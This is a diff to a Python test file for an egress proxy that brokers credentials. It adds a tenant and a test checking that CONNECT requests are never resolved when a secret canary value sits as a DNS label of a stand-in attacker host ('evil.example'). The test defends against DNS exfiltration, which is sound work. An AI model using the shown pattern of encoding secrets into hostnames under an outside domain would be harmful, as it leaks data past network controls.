@@ -41,6 +41,7 @@ def addon(tmp_path: Path) -> Iterator[KeyBroker]:
             "audit": {"path": str(tmp_path / "audit.jsonl")},
             "tenants": {
                 "acme": {"token_sha256": digest, "egress": {"allow": ["api.example.com"]}},
+                "free": {"token_sha256": hashlib.sha256(b"free-token").hexdigest()},
             },
         },
         "t.yaml",
@@ -54,12 +55,12 @@ def addon(tmp_path: Path) -> Iterator[KeyBroker]:
     engine.close()
 
 
-def connect_flow(addon: KeyBroker, host: str, port: int = 443):  # type: ignore[no-untyped-def]
+def connect_flow(addon: KeyBroker, host: str, port: int = 443, cred: str = f"acme:{TOKEN}"):  # type: ignore[no-untyped-def]
     f = tflow.tflow()
     f.request.method, f.request.host, f.request.port = "CONNECT", host, port
-    f.request.headers["proxy-authorization"] = "Basic " + base64.b64encode(
-        f"acme:{TOKEN}".encode()
-    ).decode("ascii")
+    f.request.headers["proxy-authorization"] = "Basic " + base64.b64encode(cred.encode()).decode(
+        "ascii"
+    )
     addon.http_connect(f)
     asyncio.run(addon.egress.http_connect(f))
     return f
@@ -155,3 +156,17 @@ def test_server_connect_fails_closed_on_error(
     data = hook_data(f.client_conn, "api.example.com")
     addon.egress.server_connect(data)
     assert data.server.error == NOT_CHECKED
+
+
+def test_a_known_value_in_the_connect_host_is_never_resolved(addon: KeyBroker) -> None:
+    """DNS exfiltration: a raw value as a label of the CONNECT host must not
+    reach the resolver (the request inside is refused as raw_secret_egress)."""
+    assert addon.engine is not None
+    value = "kbcanary_dns_0123456789abcdef"
+    addon.engine.scrubber.add(value.encode(), b"<<secret:x>>", ("acme", "x"))
+    for host in (f"{value}.evil.example", f"{value.upper()}.evil.example"):
+        f = connect_flow(addon, host, cred="free:free-token")
+        assert f.response is None
+    assert CALLS == []
+    connect_flow(addon, "meta.example", cred="free:free-token")
+    assert CALLS == ["meta.example"]  # the guard is only for hosts carrying a value
